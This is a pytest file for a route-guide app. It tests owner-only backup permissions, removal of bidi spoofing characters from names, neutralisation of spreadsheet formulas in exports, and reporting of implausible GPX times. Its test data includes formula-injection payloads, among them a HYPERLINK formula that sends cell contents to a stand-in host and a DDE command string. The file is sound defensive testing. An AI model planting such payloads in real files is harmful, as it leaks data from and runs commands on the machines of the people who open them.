"""Hygiene: backups readable by their owner only, no bidi spoofing in names, no formulas in exports, implausible
times reported instead of shown as a duration."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from routes.analysis.quality import quality_report
from routes.core.textsafety import neutralise_formula, strip_bidi
from routes.io.gpxio import read_gpx
from routes.store import Store
from routes.store.backup import write_backup
from routes.store.exports import pois_geojson, write_gpkg
from routes.text.i18n import pick

RLO, PDF, RLI, PDI = "\u202e", "\u202c", "\u2067", "\u2069"
HEAD = '<?xml version="1.0"?><gpx version="1.1" creator="t" xmlns="http://www.topografix.com/GPX/1/1"><trk><trkseg>'
TAIL = "</trkseg></trk></gpx>"
HOSTILE = ('=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1", "\r=1")


def test_backup_is_written_owner_only_whatever_the_umask(store: Store, tmp_path: Path) -> None:
    out = tmp_path / "guide-backup.zip"
    out.write_bytes(b"old")
    out.chmod(0o644)
    old_umask = os.umask(0o022)
    try:
        write_backup(store.engine, out)
    finally:
        os.umask(old_umask)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert not Path(str(out) + ".part").exists()


def test_cli_backup_is_owner_only(store: Store, db_url: str, tmp_path: Path) -> None:
    from routes.cli.main import main

    out = tmp_path / "b.zip"
    assert main(["backup", str(out), "--db", db_url]) == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_bidi_controls_are_stripped_from_stored_names(store: Store) -> None:
    poi = store.create_poi(
        {"name_zh": f"{RLO}evil{PDF}", "name_en": f"a{RLI}b{PDI}c", "category": "food", "lat": 30.0, "lon": 120.8},
        user="ed",
    )
    assert (poi.name_zh, poi.name_en) == ("evil", "abc")
    gpx = (HEAD + '<trkpt lat="30" lon="120.8"/><trkpt lat="30.01" lon="120.81"/>' + TAIL).encode()
    route = store.create_route(
        "spoof", gpx=gpx, filename="s.gpx", user="ed", fields={"name_zh": f"天香{RLO}线", "name_en": f"{RLO}enil"}
    )
    assert (route.name_zh, route.name_en) == ("天香线", "enil")


def test_bidi_controls_in_imported_names_are_stripped(store: Store) -> None:
    data = f"name_zh,name_en,lat,lon,category\n{RLO}茶{PDF},{RLO}evil{PDF},29.99,120.85,food\n".encode()
    preview = store.preview_poi_import(data, "x.csv")
    assert (preview.added[0]["name_zh"], preview.added[0]["name_en"]) == ("茶", "evil")


def test_display_strips_bidi_controls_from_old_records() -> None:
    assert pick(f"{RLO}evil{PDF}", "", "zh") == "evil"
    assert strip_bidi("plain 中文 text") == "plain 中文 text"


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_neutralised(text: str) -> None:
    assert neutralise_formula(text) == "'" + text
    assert neutralise_formula(-120.5) == -120.5  # numbers stay numbers
    assert neutralise_formula("茶园 = tea garden") == "茶园 = tea garden"  # only a leading formula counts


def _hostile_pois(store: Store) -> None:
    for i, text in enumerate(HOSTILE):
        store.create_poi(
            {
                "name_zh": f"点{i}",
                "name_en": f"P{i}",
                "desc_en": text,
                "hours": text,
                "category": "food",
                "lat": 30.0 + i * 1e-3,
                "lon": 120.8,
            },
            user="ed",
        )


def test_geojson_export_neutralises_formulas_and_imports_back_unchanged(store: Store) -> None:
    _hostile_pois(store)
    doc = pois_geojson(store)
    descs = {f["properties"]["desc_en"] for f in doc["features"] if f["properties"]["name_en"].startswith("P")}
    assert all(not d.startswith(("=", "+", "-", "@", "\t", "\r")) for d in descs)
    assert '\'=HYPERLINK("http://x.example/?"&A1,"click")' in descs
    preview = store.preview_poi_import(json.dumps(doc, ensure_ascii=False).encode(), "export.geojson")
    assert not preview.added and not preview.changed  # the guard is not taken for an edit


def test_geopackage_attributes_neutralise_formulas(store: Store, tmp_path: Path) -> None:
    import pyogrio

    _hostile_pois(store)
    out = tmp_path / "guide.gpkg"
    write_gpkg(store, out)
    table = pyogrio.read_dataframe(out, layer="pois")
    hours = {h for h in table["hours"] if h}
    assert {"'" + " ".join(text.split()) for text in HOSTILE} <= hours  # hours is one line: stored whitespace-folded
    assert not any(h.startswith(("=", "+", "-", "@", "\t", "\r")) for h in hours)


def test_mixed_2024_and_9999_times_are_reported_not_shown_as_a_duration() -> None:
    years = [2024] * 5 + [9999] * 5
    pts = "".join(
        f'<trkpt lat="{30 + i * 1e-4:.4f}" lon="120.8"><ele>5</ele><time>{y}-05-01T08:00:{i:02d}Z</time></trkpt>'
        for i, y in enumerate(years)
    )
    report = quality_report(read_gpx((HEAD + pts + TAIL).encode()))
    assert report.duration_s is None
    # The reader ignores the five dates in year 9999 (issue 21's plausibility limits) and the report says so.
    (ignored,) = [f for f in report.findings if f.key == "absurd_times_ignored"]
    assert ignored.severity == "warning" and ignored.params["count"] == 5


def test_an_ordinary_ride_has_no_time_jump() -> None:
    pts = "".join(
        f'<trkpt lat="{30 + i * 1e-4:.4f}" lon="120.8"><ele>5</ele><time>2024-05-01T08:{i:02d}:00Z</time></trkpt>'
        for i in range(10)
    )
    report = quality_report(read_gpx((HEAD + pts + TAIL).encode()))
    assert report.duration_s == 9 * 60
    assert "time_jumps" not in [f.key for f in report.findings]
